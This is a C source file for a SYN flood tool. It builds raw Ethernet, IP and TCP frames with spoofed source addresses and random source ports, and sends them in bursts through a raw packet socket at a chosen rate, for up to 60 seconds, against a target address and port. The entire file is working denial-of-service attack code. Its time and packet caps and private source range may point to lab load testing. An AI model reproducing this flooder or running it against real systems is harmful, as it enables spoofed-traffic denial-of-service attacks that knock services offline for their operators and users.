/*
 * SYNs from spoofed sources, as fast as they go.
 *
 *   synflood INTERFACE DESTINATION-MAC ADDRESS PORT SECONDS [SOURCE [RATE]]
 *
 * Sources are 10.1.0.0/16 (0.0.0.0), or that one, with random ports; RATE is how many a second, 0
 * as fast as they go. Prints how many were sent. Ends after SECONDS (at most 60) or 100 million.
 */
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { FRAME = 14 + 20 + 20, BURST = 64, MOST = 100000000, MOST_S = 60, PAUSE_US = 200 };

static uint8_t frames[BURST][FRAME];
static struct iovec iov[BURST];
static struct mmsghdr messages[BURST];
static struct in_addr source; /* zeros: many */

static uint32_t sum(uint32_t start, const uint8_t *p, unsigned len)
{
	for (unsigned i = 0; i < len; i += 2)
		start += (uint32_t)p[i] << 8 | p[i + 1];
	return start;
}

static void put_sum(uint8_t *p, uint32_t value)
{
	while (value >> 16)
		value = (value & 0xffff) + (value >> 16);
	p[0] = (uint8_t)(~value >> 8);
	p[1] = (uint8_t)~value;
}

static void fill(uint8_t *frame, const uint8_t mac[6], struct in_addr to, uint16_t port)
{
	const uint32_t random = (uint32_t)rand();
	uint8_t *ip = frame + 14, *tcp = ip + 20;

	memset(frame, 0, FRAME);
	memcpy(frame, mac, 6);
	frame[6] = 2;
	frame[11] = 0x99;
	frame[12] = 8;
	ip[0] = 0x45;
	ip[3] = 40;
	ip[8] = 64;
	ip[9] = 6;
	ip[12] = 10;
	ip[13] = 1;
	memcpy(ip + 14, &random, 2);
	if (source.s_addr)
		memcpy(ip + 12, &source, 4);
	memcpy(ip + 16, &to, 4);
	put_sum(ip + 10, sum(0, ip, 20));
	tcp[0] = (uint8_t)(0x40 | random >> 24);
	tcp[1] = (uint8_t)(random >> 16);
	tcp[2] = (uint8_t)(port >> 8);
	tcp[3] = (uint8_t)port;
	memcpy(tcp + 4, &random, 4);
	tcp[12] = 5 << 4;
	tcp[13] = 2;
	tcp[14] = 0xff;
	put_sum(tcp + 16, sum(sum(6 + 20, ip + 12, 8), tcp, 20));
}

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static int usage(void)
{
	fprintf(stderr,
	        "usage: synflood INTERFACE DESTINATION-MAC ADDRESS PORT SECONDS [SOURCE [RATE]]\n");
	return 2;
}

int main(int argc, char **argv)
{
	struct sockaddr_ll at = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP)};
	const double rate = argc == 8 ? atof(argv[7]) : 0;
	unsigned long sent = 0;
	double started;
	struct in_addr to;
	uint8_t mac[6];
	time_t end;
	int fd;

	if (argc < 6 || argc > 8 || (argc >= 7 && !inet_aton(argv[6], &source)) ||
	    !inet_aton(argv[3], &to) ||
	    sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3],
	           &mac[4], &mac[5]) != 6 ||
	    atoi(argv[5]) < 1 || atoi(argv[5]) > MOST_S)
		return usage();
	at.sll_ifindex = (int)if_nametoindex(argv[1]);
	fd = socket(AF_PACKET, SOCK_RAW, 0);
	if (fd < 0 || bind(fd, (struct sockaddr *)&at, sizeof(at)) < 0) {
		perror("synflood");
		return 1;
	}
	end = time(NULL) + atoi(argv[5]);
	started = now();
	while (time(NULL) < end && sent < MOST) {
		int n;

		if (rate > 0 && (double)sent > (now() - started) * rate) {
			usleep(PAUSE_US);
			continue;
		}
		for (unsigned i = 0; i < BURST; i++) {
			fill(frames[i], mac, to, (uint16_t)atoi(argv[4]));
			iov[i] = (struct iovec){frames[i], FRAME};
			messages[i].msg_hdr = (struct msghdr){.msg_iov = &iov[i], .msg_iovlen = 1};
		}
		n = sendmmsg(fd, messages, BURST, 0);
		sent += n > 0 ? (unsigned long)n : 0;
	}
	printf("%lu\n", sent);
	return 0;
}
